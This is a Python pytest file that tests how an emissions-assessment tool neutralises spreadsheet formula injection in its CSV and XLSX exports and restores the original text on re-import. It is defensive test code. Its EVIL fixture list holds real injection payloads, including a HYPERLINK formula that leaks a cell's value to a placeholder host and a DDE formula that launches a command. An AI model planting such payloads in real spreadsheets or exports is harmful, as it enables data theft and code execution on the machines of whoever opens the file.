"""Formula injection (OWASP "CSV injection") in the CSV, XLSX and batch-summary exports.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, tab or CR is written with a
leading single quote; XLSX text cells are text (never formulas); numbers, negative ones
included, stay numbers.  Our own importers take such an exported file back: the quote
the neutraliser added is removed again (documented rule in ``ecologis.io.cells``).
"""

from dataclasses import replace
import csv
import io
import json
import shutil
import zipfile

import openpyxl
import pytest

from ecologis.cli import main as cli
from ecologis.io.cells import FORMULA_TRIGGERS, neutralize, restore
from ecologis.io.emissions_table import read_emissions
from ecologis.io.export import csv_bytes, export_file, xlsx_bytes
from ecologis.io.profile import assess_project, load_profile, save_profile

EVIL = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1,2)",
        "\tTabbed", "\rCarriage"]


@pytest.fixture
def evil_profile(demo_path):
    p = load_profile(demo_path)
    for i, (e, name) in enumerate(zip(p.emissions, EVIL)):
        p.emissions[i] = replace(e, substance=name)
    p.emissions[-1] = replace(p.emissions[-1], mass=-5.0)           # an invalid but numeric mass: a number in every export
    p.enterprise.name = "=1+1"
    return p


def test_neutralize_rule():
    for s in EVIL:
        assert neutralize(s) == "'" + s
        assert restore(neutralize(s)) == s
    assert neutralize("Азоту діоксид") == "Азоту діоксид"
    assert neutralize("'quoted'") == "'quoted'"             # a quote before harmless text: left alone
    assert neutralize("'=x") == "''=x"                       # already quoted formula text: one more quote...
    assert restore(neutralize("'=x")) == "'=x"               # ...so the round trip is exact
    assert neutralize(-5.0) == -5.0 and neutralize(3) == 3 and neutralize(None) is None
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_csv_text_cells_neutralised_numbers_kept(evil_profile):
    r = assess_project(evil_profile, dispersion=False).result
    rows = list(csv.reader(io.StringIO(csv_bytes(r, "en").decode("utf-8-sig"), newline="")))
    body = rows[1:]
    for row in body:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_TRIGGERS or _is_number(cell), (row, cell)
    entered = [row[1] for row in body]
    for s in EVIL:
        assert "'" + s in entered
    # the negative mass stays a number (no quote)
    assert "-5.0" in [row[4] for row in body]


def _is_number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


def _xlsx_has_formula(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_text_cells_are_text(evil_profile):
    r = assess_project(evil_profile, dispersion=False).result
    data = xlsx_bytes(evil_profile, r, "en")
    assert not _xlsx_has_formula(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))          # not data_only: a formula would show as "=…"
    ws = wb.worksheets[0]
    for row in ws.iter_rows(min_row=2):
        for c in row:
            if isinstance(c.value, str):
                assert c.data_type == "s" and c.value[0] not in FORMULA_TRIGGERS, c.value
    masses = [row[4] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert -5.0 in masses                                  # a number, not text
    summary = {row[0]: row[1] for row in wb.worksheets[1].iter_rows(min_row=2, values_only=True)}
    assert "'=1+1" in summary.values()


def test_batch_summary_neutralised(tmp_path, evil_profile, capsys):
    d = tmp_path / "audit"
    d.mkdir()
    save_profile(evil_profile, d / "=evil.json")
    out = tmp_path / "summary.xlsx"
    cli(["--lang", "en", "batch", str(d), "--out", str(out), "--quiet"])
    data = out.read_bytes()
    assert not _xlsx_has_formula(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    row = next(ws.iter_rows(min_row=2, values_only=True))
    assert row[0] == "'=evil.json" and row[2] == "'=1+1"
    assert isinstance(row[3], float)                       # the КНП stays a number


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_through_our_importer(tmp_path, evil_profile, dictionary, fmt):
    r = assess_project(evil_profile, dispersion=False).result
    f = export_file(fmt, evil_profile, r, tmp_path / f"out.{fmt}", "uk")
    t = read_emissions(f, dictionary)
    names = [e.substance for e in t.emissions]
    for s in EVIL:
        # CR inside a CSV cell survives (quoted); tab/CR at the start are kept as entered text
        assert any(n == s or n == s.strip() for n in names), (s, names)
    assert not any(str(n).startswith("'") for n in names)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export_then_assess(tmp_path, evil_profile, fmt, capsys):
    prof = tmp_path / "evil.json"
    save_profile(evil_profile, prof)
    out = tmp_path / f"evil.{fmt}"
    assert cli(["export", str(prof), "--out", str(out)]) == 0
    capsys.readouterr()
    # the exported file is assessed again: its rows carry the original names (unknown
    # substances, so errors), never the quoted ones
    assert cli(["--lang", "en", "assess", str(out), "--json"]) == 2
    doc = json.loads(capsys.readouterr().out)
    text = json.dumps(doc, ensure_ascii=False)
    assert "'=cmd" not in text and "'@SUM" not in text
    assert "=cmd|' /C calc'!A0" in text


def test_cli_export_then_import(tmp_path, evil_profile, capsys):
    prof = tmp_path / "evil.json"
    save_profile(evil_profile, prof)
    out = tmp_path / "evil.csv"
    assert cli(["export", str(prof), "--out", str(out)]) == 0
    target = tmp_path / "new.json"
    shutil.copy(prof, target)
    # every unknown (formula-like) name mapped to a known substance by its original text
    maps = []
    for s in EVIL:
        maps.append(f"--map={s.strip()}=10102-44-0")
    capsys.readouterr()
    rc = cli(["--lang", "en", "import", str(out), "--profile", str(target), "--duplicates", "sum", *maps])
    err = capsys.readouterr().err
    # the names were mapped by their original text: the only refusal left is the negative
    # mass of the last row (row 11 of the file), which came back as the number -5.0
    assert rc == 2
    problems = [ln for ln in err.splitlines() if ", row " in ln]
    assert len(problems) == 1 and "row 11" in problems[0] and "-5.0" in problems[0], err
